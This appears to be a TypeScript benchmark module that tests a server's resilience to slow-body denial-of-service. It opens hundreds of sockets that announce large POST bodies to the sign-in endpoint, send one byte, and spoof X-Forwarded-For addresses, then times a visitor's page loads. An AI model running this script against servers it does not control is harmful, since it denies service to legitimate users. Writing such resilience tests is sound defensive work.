/** What slow bodies cost everybody else: the attack is hundreds of sign-ins that announce much and send next to nothing. */
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { table } from '../bench/table.ts'

export type SlowBodies = {
  /** Connections that sent a body slowly. */
  attackers: number
  /** Forwarded addresses that they came from. */
  addresses: number
  /** Statuses and milliseconds of a visitor's pages meanwhile. */
  visits: { status: number; ms: number }[]
}

const ATTACKERS = 505
const VISITS = 10

/** Opens the connections, and visits a page while they last. @param url of a server that trusts one proxy */
export async function attackWithSlowBodies(url: string, addresses: number): Promise<SlowBodies> {
  const attackers = Math.max(ATTACKERS, addresses)
  const sockets = await Promise.all(
    Array.from({ length: attackers }, (_, index) => sendSlowly(url, index % addresses)),
  )
  const visits: SlowBodies['visits'] = []
  for (let visit = 0; visit < VISITS; visit++) {
    const start = performance.now()
    const answer = await fetch(`${url}/market?visit=${visit}`)
    await answer.text()
    visits.push({ status: answer.status, ms: performance.now() - start })
  }
  for (const socket of sockets) socket.destroy()
  return { attackers, addresses, visits }
}

/** The figures as a Markdown table. */
export const slowBodiesTable = (attacks: SlowBodies[]): string =>
  table([
    ['slow bodies', 'from addresses', 'pages served meanwhile', 'slowest, ms'],
    ...attacks.map(({ attackers, addresses, visits }) => [
      String(attackers),
      String(addresses),
      `${visits.filter(({ status }) => status === 200).length} of ${visits.length}`,
      String(Math.round(Math.max(...visits.map(({ ms }) => ms)))),
    ]),
  ])

async function sendSlowly(url: string, address: number): Promise<Socket> {
  const { hostname, port } = new URL(url)
  const socket = connect(Number(port), hostname)
  // The server may end it at any time.
  socket.on('error', () => socket.destroy()).resume()
  await once(socket, 'connect')
  const forwarded = `102.89.${address >> 8}.${address & 255}`
  socket.write(
    `POST /api/auth/sign-in HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: ${forwarded}\r\nContent-Length: 200000\r\n\r\nx`,
  )
  return socket
}
